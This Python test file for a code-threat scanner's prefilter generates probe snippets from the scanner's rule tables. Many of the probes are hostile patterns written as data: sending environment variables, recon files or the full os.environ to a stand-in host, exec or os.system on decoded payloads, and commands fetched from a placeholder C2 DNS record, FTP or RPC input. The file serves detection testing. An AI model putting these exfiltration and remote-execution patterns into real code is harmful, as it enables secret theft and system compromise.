"""The prefilter's triggers never hide a threat: every rule's table, enumerated.

A file the prefilter answers "nothing" for is not parsed, and one it answers
with focus lines is visited only around them (:mod:`caplet._scan._prefilter`
says why that is sound). These tests hold it to that, differentially: each
probe is scanned in package mode twice, once as :func:`scan_text` does (the
prefilter asked) and once with the prefilter answering "the whole file"; the
danger findings must be the same. The probes are generated from the tables
the rules themselves read (:mod:`caplet._scan._sources`, the rules' worked
examples), so a source, sink or decoder added to a table without a trigger in
the prefilter fails here, by name.
"""

from __future__ import annotations

import pytest

from caplet._scan._examples import EXAMPLES, Variant
from caplet._scan._reachable import REACHABLE_MODULES
from caplet._scan._rules import API_RULES
from caplet._scan._sources import (
    BOT_FRAMEWORKS,
    DECODERS,
    DECODING_CODECS,
    DNS_ANSWERS,
    DNS_FUNCTIONS,
    DNS_METHODS,
    EXECUTORS,
    NETWORK_CALLBACKS,
    NETWORK_PROGRAMS,
    NETWORK_STREAMS,
    PIP_MAINS,
    RECON_ENV_NAMES,
    RECON_FILES,
    RECON_FUNCTIONS,
    REQUEST_HANDLERS,
    RPC_PROXIES,
)
from tests._scan.prefilterkit import text_both_ways, text_danger


def _danger(text: str, name: str = "mod.py") -> list[tuple[str, int]]:
    return text_danger(text, f"pkg/{name}", max_nodes=200_000)


def _differs(text: str, monkeypatch: pytest.MonkeyPatch) -> tuple[list[tuple[str, int]], ...]:
    """(prefiltered, unfiltered) danger findings of ``text``."""
    return text_both_ways(text, "pkg/mod.py", monkeypatch, max_nodes=200_000)


def _module_of(api: str) -> str:
    """The module to import for a dotted API (``builtins.bytes.fromhex`` needs none)."""
    head = api.split(".", 1)[0]
    return "" if head == "builtins" else f"import {api.rsplit('.', 1)[0]}\n"


def _call(api: str, argument: str = "") -> str:
    """``api`` called (``builtins.`` dropped, as code spells it)."""
    return f"{api.removeprefix('builtins.')}({argument})"


def _reached(api: str, argument: str = "") -> tuple[str, str] | None:
    """(import, call) of ``api`` read off another imported module (``json.subprocess.run``),
    when the resolver follows its module so (:data:`REACHABLE_MODULES`); else ``None``."""
    module, _, rest = api.partition(".")
    if module not in REACHABLE_MODULES.values():
        return None
    return "import json\n", f"json.{module}.{rest}({argument})"


def _aliased(api: str, argument: str = "") -> tuple[str, str]:
    """(import, call) of ``api`` imported under another name: ``from os import system as
    run_it``, then ``run_it(...)``."""
    module, _, name = api.rpartition(".")
    return f"from {module} import {name} as run_it\n", f"run_it({argument})"


_HOST = "str(x) + '.collect.example.net'"


_RECON = [
    *(
        (_module_of(f), _call(f, "0" if f.endswith("getpwuid") else ""))
        for f in sorted(RECON_FUNCTIONS)
    ),
    *(("import os\n", f"os.environ[{n!r}]") for n in sorted(RECON_ENV_NAMES)),
    *(("import os\n", f"os.getenv({n!r})") for n in sorted(RECON_ENV_NAMES)),
    *(_aliased(f, "0" if f.endswith("getpwuid") else "") for f in sorted(RECON_FUNCTIONS)),
    *(
        reached
        for f in sorted(RECON_FUNCTIONS)
        if (reached := _reached(f, "0" if f.endswith("getpwuid") else "")) is not None
    ),
    *(("", f"open({p!r}).read()") for p in sorted(RECON_FILES)),
    *(
        ("import os\n", f"open(os.path.join('/etc', {p.rsplit('/', 1)[1]!r})).read()")
        for p in sorted(RECON_FILES)
    ),
]
_EGRESS = [
    "import requests\nrequests.post('https://collect.example.net/c', data=x)\n",
    "import urllib.request\nurllib.request.urlopen('https://collect.example.net/?' + str(x))\n",
    *(f"{_module_of(d)}{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." not in d),
    *(f"import dns.resolver\n{_call(d, _HOST)}\n" for d in sorted(DNS_FUNCTIONS) if "()." in d),
    *(
        f"import subprocess\nsubprocess.run([{p!r}, str(x) + '.collect.example.net'])\n"
        for p in sorted(NETWORK_PROGRAMS)
    ),
]


def _probe(imports: str, source: str, egress: str) -> str:
    head, _, call = egress.partition("\n")
    return f"{imports}{head}\nx = {source}\n{call}"


def _recon_probes() -> list[str]:
    # Each entry once against a partner whose trigger the other probes check: a
    # missing trigger on either side hides the threat, so every entry is held to
    # the rule without the product of the tables.
    imports, source = _RECON[0]
    return [_probe(i, s, _EGRESS[0]) for i, s in _RECON] + [
        _probe(imports, source, egress) for egress in _EGRESS
    ]


def _decoder_probes() -> list[str]:
    sinks = [
        "exec(payload)",
        "import os\nos.system(payload)",
        *(_call(e, "payload") for e in sorted(EXECUTORS) if e.startswith("builtins.")),
        *(
            f"{_module_of(api)}{_call(api, 'payload')}"
            for api, rule_id in sorted(API_RULES.items())
            if rule_id == "CPL-PROC-001"
        ),
        *(
            "".join(_aliased(api, "payload"))
            for api, rule_id in sorted(API_RULES.items())
            if rule_id == "CPL-PROC-001"
        ),
        *(
            "".join(reached)
            for api, rule_id in sorted(API_RULES.items())
            if rule_id == "CPL-PROC-001" and (reached := _reached(api, "payload")) is not None
        ),
    ]

    def decoded(decoder: str) -> str:
        argument = "blob, 'rot13'" if decoder == "codecs.decode" else "blob"
        return f"{_module_of(decoder)}payload = {_call(decoder, argument)}\n"

    codecs = [
        f"import codecs\npayload = codecs.decode(blob, {c!r})\n" for c in sorted(DECODING_CODECS)
    ]
    # every decoder into a code sink and a process sink, every sink fed by one decoder
    through = [
        f"{imports}payload = {call}\n"
        for d in sorted(DECODERS)
        if (reached := _reached(d, "blob")) is not None
        for imports, call in [reached]
    ]
    each = [decoded(d) for d in sorted(DECODERS)] + codecs + through
    return [d + sink + "\n" for d in each for sink in sinks[:2]] + [
        each[0] + sink + "\n" for sink in sinks
    ]


def _other_probes() -> list[str]:
    install = "['install', 'x']"
    pips = [f"import pip\nimport pip._internal\n{_call(p, install)}\n" for p in sorted(PIP_MAINS)]
    bots = [
        f"import {b}\n@{b}.handler\ndef on(message):\n    exec(message.text)\n"
        for b in sorted(BOT_FRAMEWORKS)
    ]
    return pips + bots


def _network_input_probes() -> list[str]:
    """recall6: every network input of :mod:`caplet._scan._network_input`'s tables into a
    process sink, every DNS method fed host data, every spelling of the whole environment
    sent; each in a module (not an install script, which is always parsed)."""
    streams = [
        f"import os\nimport {s.rsplit('.', 1)[0]}\nasync def f():\n"
        f"    conn = await {s}('198.51.100.7', 8443)\n    os.system(str(conn))\n"
        for s in sorted(NETWORK_STREAMS)
    ]
    callbacks = [
        f"import ftplib\nlines = []\nf = ftplib.FTP('ftp.example.net')\n"
        f"f.{m}('RETR x', lines.append)\nexec(''.join(lines))\n"
        for m in sorted(NETWORK_CALLBACKS)
    ]
    proxies = [
        f"import os\nimport {p.rsplit('.', 1)[0]}\nsrv = {p}('http://rpc.example.net/')\n"
        f"os.popen(srv.next_task())\n"
        for p in sorted(RPC_PROXIES)
    ]
    resolvers = [
        f"import asyncio, socket\nloop = asyncio.get_event_loop()\nloop.{m}({_HOST}, 80)\n".replace(
            "str(x)", "socket.gethostname()"
        )
        for m in sorted(DNS_METHODS)
    ]
    environment = [
        f"import copy, json, os, requests\nsent = {spelling}\n\n\n"
        f"requests.post('https://collect.example.net/c', data=str(sent))\n"
        for spelling in (
            "os.environ.copy()",
            "os . environ . copy()",
            "dict(os.environ)",
            "{**os.environ}",
            "json.dumps(dict(os.environ))",
            "os.environ._data",
            "copy.deepcopy(os.environ)",
        )
    ]
    answers = [
        f"import os\nimport {d.split('(')[0].rsplit('.', 1)[0]}\n"
        f"os.system(str({d}('cmd.c2.example.net', 'TXT')))\n"
        for d in sorted(DNS_ANSWERS)
    ]
    handlers = []
    for base, (attributes, methods) in sorted(REQUEST_HANDLERS.items()):
        head = f"import os\nimport {base.rsplit('.', 1)[0]}\nclass Handler({base}):\n"
        handlers += [
            f"{head}    def handle(self):\n        os.system(str(self.{a}))\n"
            for a in sorted(attributes)
        ]
        handlers += [
            f"{head}    def {m}(self, data):\n        os.system(str(data))\n"
            for m in sorted(methods)
        ]
    return streams + callbacks + proxies + resolvers + environment + answers + handlers


_PROBES = _recon_probes() + _decoder_probes() + _other_probes() + _network_input_probes()


@pytest.mark.parametrize("probe", _network_input_probes())
def test_a_network_input_probe_is_a_threat_the_rules_find(
    probe: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    # each probe of the tables recall6 added fires (whole file and prefiltered alike, the
    # test above): a table entry that reaches no rule would prove nothing
    filtered, unfiltered = _differs(probe, monkeypatch)
    assert unfiltered
    assert filtered == unfiltered


@pytest.mark.parametrize("probe", _PROBES)
def test_a_table_driven_probe_finds_the_same_threats_prefiltered(
    probe: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    filtered, unfiltered = _differs(probe, monkeypatch)
    assert filtered == unfiltered


def test_the_probes_are_threats_the_rules_find(monkeypatch: pytest.MonkeyPatch) -> None:
    # A probe set the rules never fire on would prove nothing about the prefilter.
    fired = [p for p in _PROBES if _differs(p, monkeypatch)[1]]
    assert len(fired) > len(_PROBES) // 2


def _example_sources() -> list[object]:
    params: list[object] = []
    for number, item in enumerate(EXAMPLES):
        for variant in Variant:
            source = item.source(variant)
            if source is not None:
                params.append(pytest.param(source, id=f"{item.rule_id}-{number}-{variant.value}"))
    return params


@pytest.mark.parametrize("source", _example_sources())
def test_every_rule_example_finds_the_same_threats_prefiltered(
    source: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    filtered, unfiltered = _differs(source, monkeypatch)
    assert filtered == unfiltered
